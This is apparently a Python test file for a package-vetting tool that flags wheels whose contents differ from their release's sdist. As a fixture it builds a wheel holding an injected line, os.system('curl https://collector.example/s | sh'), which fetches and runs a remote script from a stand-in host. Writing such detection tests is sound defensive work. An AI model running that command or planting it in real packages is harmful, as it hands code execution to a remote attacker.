"""`pratique vet` on a wheel and the sdist of its release: however they are named, they are compared."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from kit.distributions import make_sdist, make_wheel
from kit.shop import OLD
from kit.upstream import FakeUpstream
from pratique.doors.cli import EXIT_UNKNOWN, cli
from pratique.doors.index.grounds import Ground, Grounds, Surroundings
from pratique.doors.index.locate import Located
from pratique.doors.vet_siblings import sdists_first
from pratique.errors import UnavailableError

pytestmark = pytest.mark.slow  # most of them start vetting workers

PLAIN = {"demo/__init__.py": "from demo.core import VALUE\n", "demo/core.py": "VALUE = 1\n"}
# Inert: the host does not exist, and nothing here is ever run.
LATER = (
    "import os\nVALUE = 1\n\n\ndef go():\n    os.system('curl https://collector.example/s | sh')\n"
)
CHANGED = {**PLAIN, "demo/core.py": LATER}
WHEEL = "demo-1.0-py3-none-any.whl"


def vet(*arguments: str | Path, home: Path) -> dict[str, set[str]]:
    """For each file the traits by which it differs from its sdist."""
    environment = {"PRATIQUE_HOME": str(home)}
    told = CliRunner(env=environment).invoke(cli, ["vet", *map(str, arguments), "--format", "json"])
    answer: dict[str, Any] = json.loads(told.stdout)
    return {
        one["filename"]: {
            finding["trait"]
            for finding in one["report"]["findings"]
            if finding["rule"] == "wheel-not-in-sdist"
        }
        for one in answer["files"]
    }


@pytest.fixture
def files(tmp_path: Path) -> list[Path]:
    folder = tmp_path / "dist"
    folder.mkdir()
    made = (make_wheel("demo", "1.0", files=CHANGED), make_sdist("demo", "1.0", files=PLAIN))
    for name, content in made:
        (folder / name).write_bytes(content)
    return [folder / name for name, _ in made]


@pytest.mark.slow
def test_a_folder_and_a_pair_in_any_order(files: list[Path], tmp_path: Path) -> None:
    wheel, source = files
    for named in ([wheel.parent], [wheel, source], [source, wheel]):
        told = vet(*named, home=tmp_path / "home")
        assert told[source.name] == set()
        assert {"differs", "deed"} <= told[wheel.name]
    assert vet(wheel, home=tmp_path / "home")[wheel.name] == set()


@pytest.mark.slow
def test_a_release_of_an_index(files: list[Path], tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    with FakeUpstream() as upstream:
        for path in files:
            upstream.add_file("demo", path.name, path.read_bytes(), upload_time=OLD)
        settings = f'[[upstream]]\nname = "main"\nurl = "{upstream.url}"\n'
        settings += '[[index]]\nname = "pypi"\nupstreams = ["main"]\n'
        (home / "pratique.toml").write_text(settings, "utf-8")
        told = vet("demo==1.0", home=home)
    assert "deed" in told[WHEEL]


def test_sdists_come_just_before_their_wheels_and_all_else_stays() -> None:
    names = ["b-1.0-py3-none-any.whl", WHEEL, "x.bin", "demo-1.0.tar.gz", "demo-2.0.tar.gz"]
    expected = [names[0], "demo-1.0.tar.gz", WHEEL, "x.bin", "demo-2.0.tar.gz"]
    assert sdists_first(names, str) == expected


@pytest.mark.slow
def test_one_file_that_cannot_be_looked_up_does_not_end_the_others(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    honest = Grounds.surroundings

    async def failing(self: Grounds, located: Located, ground: Ground) -> Surroundings:
        if located.file.filename == WHEEL:
            raise UnavailableError("its page went away")
        return await honest(self, located, ground)

    monkeypatch.setattr(Grounds, "surroundings", failing)
    home = tmp_path / "home"
    home.mkdir()
    with FakeUpstream() as upstream:
        for project in ("demo", "other"):
            name, content = make_wheel(project, "1.0", files=PLAIN)
            upstream.add_file(project, name, content, upload_time=OLD)
        upstream_table = f'[[upstream]]\nname = "public"\nurl = "{upstream.url}"\n'
        (home / "pratique.toml").write_text(upstream_table, "utf-8")
        words = ["vet", "demo==1.0", "other==1.0", "--format", "json"]
        told = CliRunner(env={"PRATIQUE_HOME": str(home)}).invoke(cli, words)
    files = {one["filename"]: one for one in json.loads(told.stdout)["files"]}
    assert "its page went away" in json.dumps(files.pop(WHEEL))
    assert [one["verdict"] for one in files.values()] == ["clean"]
    assert told.exit_code == EXIT_UNKNOWN
